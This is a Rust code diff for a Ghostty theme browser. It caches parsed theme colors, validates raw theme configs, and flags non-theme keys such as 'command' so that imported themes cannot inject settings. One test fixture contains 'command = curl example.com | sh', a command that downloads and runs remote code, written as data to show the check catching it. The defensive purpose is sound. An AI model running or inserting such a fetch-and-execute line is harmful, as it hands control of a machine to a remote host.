@@ -1,7 +1,10 @@
-use serde::Deserialize;
+use std::sync::OnceLock;
+
+use ratatui::style::Color;
+use serde::{Deserialize, Serialize};
 
 #[allow(dead_code)]
-#[derive(Debug, Clone, Deserialize)]
+#[derive(Debug, Clone, Deserialize, Serialize)]
 #[serde(rename_all = "camelCase")]
 pub struct GhosttyConfig {
     pub id: String,
@@ -29,10 +32,22 @@ pub struct GhosttyConfig {
     pub vote_count: i32,
     pub view_count: i32,
     pub download_count: i32,
+    /// Colors parsed on first draw, so rendering doesn't re-parse hex
+    /// strings every frame. Build a new theme rather than editing colors
+    /// on one that has been drawn.
+    #[serde(skip)]
+    pub parsed: OnceLock<ParsedColors>,
+}
+
+#[derive(Debug, Clone)]
+pub struct ParsedColors {
+    bg: Color,
+    fg: Color,
+    palette: Vec<Color>,
 }
 
 #[allow(dead_code)]
-#[derive(Debug, Clone, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
 pub struct ConfigResponse {
     pub configs: Vec<GhosttyConfig>,
@@ -40,6 +55,10 @@ pub struct ConfigResponse {
     pub page: i32,
     pub per_page: i32,
     pub total_pages: i32,
+    /// How old the listing is when it came from the disk cache because the
+    /// site couldn't be reached.
+    #[serde(skip)]
+    pub cached: Option<std::time::Duration>,
 }
 
 impl GhosttyConfig {
@@ -55,25 +74,196 @@ impl GhosttyConfig {
         Some((r, g, b))
     }
 
-    pub fn bg_color(&self) -> ratatui::style::Color {
-        Self::parse_hex(&self.background)
-            .map(|(r, g, b)| ratatui::style::Color::Rgb(r, g, b))
-            .unwrap_or(ratatui::style::Color::Black)
+    fn parsed(&self) -> &ParsedColors {
+        self.parsed.get_or_init(|| {
+            let rgb = |hex: &str, fallback| {
+                Self::parse_hex(hex)
+                    .map(|(r, g, b)| Color::Rgb(r, g, b))
+                    .unwrap_or(fallback)
+            };
+            ParsedColors {
+                bg: rgb(&self.background, Color::Black),
+                fg: rgb(&self.foreground, Color::White),
+                palette: self
+                    .palette
+                    .iter()
+                    .map(|hex| rgb(hex, Color::Reset))
+                    .collect(),
+            }
+        })
     }
 
-    pub fn fg_color(&self) -> ratatui::style::Color {
-        Self::parse_hex(&self.foreground)
-            .map(|(r, g, b)| ratatui::style::Color::Rgb(r, g, b))
-            .unwrap_or(ratatui::style::Color::White)
+    pub fn bg_color(&self) -> Color {
+        self.parsed().bg
     }
 
-    pub fn palette_color(&self, index: usize) -> ratatui::style::Color {
-        self.palette
+    pub fn fg_color(&self) -> Color {
+        self.parsed().fg
+    }
+
+    pub fn palette_color(&self, index: usize) -> Color {
+        self.parsed()
+            .palette
             .get(index)
-            .and_then(|hex| Self::parse_hex(hex))
-            .map(|(r, g, b)| ratatui::style::Color::Rgb(r, g, b))
-            .unwrap_or(ratatui::style::Color::Reset)
+            .copied()
+            .unwrap_or(Color::Reset)
+    }
+}
+
+/// The named colors a complete theme sets, besides the 16 palette entries.
+const NAMED_COLOR_KEYS: &[&str] = &[
+    "background",
+    "foreground",
+    "cursor-color",
+    "cursor-text",
+    "selection-background",
+    "selection-foreground",
+];
+
+/// Non-color keys a theme's raw config may carry.
+const OTHER_THEME_KEYS: &[&str] = &[
+    "font-family",
+    "font-size",
+    "cursor-style",
+    "cursor-style-blink",
+    "cursor-opacity",
+    "background-opacity",
+    "minimum-contrast",
+    "bold-is-bright",
+];
+
+/// Problems found in a theme's raw config. Errors are values Ghostty would
+/// reject; warnings are gaps and keys it may not know.
+#[derive(Debug, Default, PartialEq)]
+pub struct Validation {
+    pub errors: Vec<String>,
+    pub warnings: Vec<String>,
+}
+
+/// Check a raw Ghostty config: every line is `key = value`, colors are hex,
+/// palette entries are `N=#rrggbb` with N in 0-255, and all 22 color keys
+/// (six named colors and palette 0-15) are set.
+pub fn validate_raw_config(raw_config: &str) -> Validation {
+    let mut result = Validation::default();
+    let mut named_seen = [false; 6];
+    let mut palette_seen = [false; 16];
+
+    for (n, line) in raw_config.lines().enumerate() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let Some((key, value)) = line.split_once('=') else {
+            result
+                .errors
+                .push(format!("line {}: expected `key = value`: {}", n + 1, line));
+            continue;
+        };
+        let (key, value) = (key.trim(), value.trim());
+        if let Some(i) = NAMED_COLOR_KEYS.iter().position(|k| *k == key) {
+            named_seen[i] = true;
+            // Ghostty also lets the cursor and selection follow the cell
+            let cell = matches!(value, "cell-foreground" | "cell-background") && i >= 2;
+            if !cell && !is_hex_color(value) {
+                result.errors.push(format!(
+                    "line {}: {} is not a hex color: {}",
+                    n + 1,
+                    key,
+                    value
+                ));
+            }
+        } else if key == "palette" {
+            let entry = value
+                .split_once('=')
+                .and_then(|(index, color)| Some((index.trim().parse::<u8>().ok()?, color)));
+            match entry {
+                Some((index, color)) if is_hex_color(color.trim()) => {
+                    if let Some(seen) = palette_seen.get_mut(index as usize) {
+                        *seen = true;
+                    }
+                }
+                _ => result.errors.push(format!(
+                    "line {}: palette should be N=#rrggbb with N in 0-255: {}",
+                    n + 1,
+                    value
+                )),
+            }
+        } else if !OTHER_THEME_KEYS.contains(&key) {
+            result
+                .warnings
+                .push(format!("line {}: unknown key {}", n + 1, key));
+        }
+    }
+
+    let missing: Vec<String> = NAMED_COLOR_KEYS
+        .iter()
+        .zip(named_seen)
+        .filter(|(_, seen)| !seen)
+        .map(|(key, _)| key.to_string())
+        .chain(missing_palette(&palette_seen))
+        .collect();
+    let missing_count = named_seen
+        .iter()
+        .chain(&palette_seen)
+        .filter(|s| !**s)
+        .count();
+    if missing_count > 0 {
+        result.warnings.push(format!(
+            "missing {} of 22 color keys: {}",
+            missing_count,
+            missing.join(", ")
+        ));
+    }
+    result
+}
+
+/// Keys in `raw_config` that aren't theme settings (the named colors,
+/// `palette`, or `OTHER_THEME_KEYS`), such as `command` or `config-file`.
+/// Cycling writes a theme's lines into the Ghostty config as they are, so
+/// themes from elsewhere are refused when they carry any.
+pub fn foreign_keys(raw_config: &str) -> Vec<String> {
+    let mut keys: Vec<String> = Vec::new();
+    for line in raw_config.lines().map(str::trim) {
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let key = line.split_once('=').map_or(line, |(key, _)| key).trim();
+        let known =
+            NAMED_COLOR_KEYS.contains(&key) || key == "palette" || OTHER_THEME_KEYS.contains(&key);
+        if !known && !keys.iter().any(|k| k == key) {
+            keys.push(key.to_string());
+        }
+    }
+    keys
+}
+
+/// The unset palette entries as runs, like `palette 0-7`.
+fn missing_palette(seen: &[bool; 16]) -> Vec<String> {
+    let mut runs = Vec::new();
+    let mut i = 0;
+    while i < seen.len() {
+        if seen[i] {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        while i + 1 < seen.len() && !seen[i + 1] {
+            i += 1;
+        }
+        runs.push(if start == i {
+            format!("palette {}", i)
+        } else {
+            format!("palette {}-{}", start, i)
+        });
+        i += 1;
     }
+    runs
+}
+
+/// `#rrggbb` or `#rgb`, with or without the `#`.
+fn is_hex_color(value: &str) -> bool {
+    let hex = value.strip_prefix('#').unwrap_or(value);
+    matches!(hex.len(), 3 | 6) && hex.chars().all(|c| c.is_ascii_hexdigit())
 }
 
 #[cfg(test)]
@@ -142,6 +332,7 @@ mod tests {
             vote_count: 0,
             view_count: 0,
             download_count: 0,
+            parsed: Default::default(),
         }
     }
 
@@ -175,6 +366,15 @@ mod tests {
         assert_eq!(t.palette_color(5), ratatui::style::Color::Reset);
     }
 
+    #[test]
+    fn colors_are_parsed_once() {
+        let t = make_theme("#102030", "#fff", vec!["#ff0000"]);
+        assert!(t.parsed.get().is_none());
+        t.bg_color();
+        assert!(t.parsed.get().is_some());
+        assert_eq!(t.clone().bg_color(), ratatui::style::Color::Rgb(16, 32, 48));
+    }
+
     #[test]
     fn config_response_deserialize() {
         let json = r##"{
@@ -193,4 +393,47 @@ mod tests {
         assert_eq!(resp.configs[0].title, "Test Theme");
         assert!(resp.configs[0].is_dark);
     }
+
+    #[test]
+    fn validate_raw_config_accepts_complete_theme() {
+        let mut raw = String::from(
+            "background = #1a1b26\nforeground = c0caf5\ncursor-color = #fff\n\
+             cursor-text = cell-background\nselection-background = #33467c\n\
+             selection-foreground = #c0caf5\nfont-size = 13\n",
+        );
+        for i in 0..16 {
+            raw.push_str(&format!("palette = {}=#1a1b26\n", i));
+        }
+        assert_eq!(validate_raw_config(&raw), Validation::default());
+    }
+
+    #[test]
+    fn validate_raw_config_reports_errors_and_warnings() {
+        let raw = "# comment\nbackground = #12345g\npalette = 16=#000000\npalette = 3 #000000\n\
+                   window-padding-x = 4\nnonsense";
+        let check = validate_raw_config(raw);
+        assert_eq!(
+            check.errors,
+            [
+                "line 2: background is not a hex color: #12345g",
+                "line 4: palette should be N=#rrggbb with N in 0-255: 3 #000000",
+                "line 6: expected `key = value`: nonsense",
+            ]
+        );
+        assert_eq!(check.warnings.len(), 2);
+        assert_eq!(check.warnings[0], "line 5: unknown key window-padding-x");
+        assert_eq!(
+            check.warnings[1],
+            "missing 21 of 22 color keys: foreground, cursor-color, cursor-text, \
+             selection-background, selection-foreground, palette 0-15"
+        );
+    }
+
+    #[test]
+    fn foreign_keys_lists_non_theme_settings() {
+        let raw = "background = #000000\npalette = 0=#000000\nfont-size = 13\n# command = x\n\
+                   command = curl example.com | sh\nconfig-file = /tmp/x\ncommand = sh";
+        assert_eq!(foreign_keys(raw), ["command", "config-file"]);
+        assert!(foreign_keys("background = #000000\n").is_empty());
+    }
 }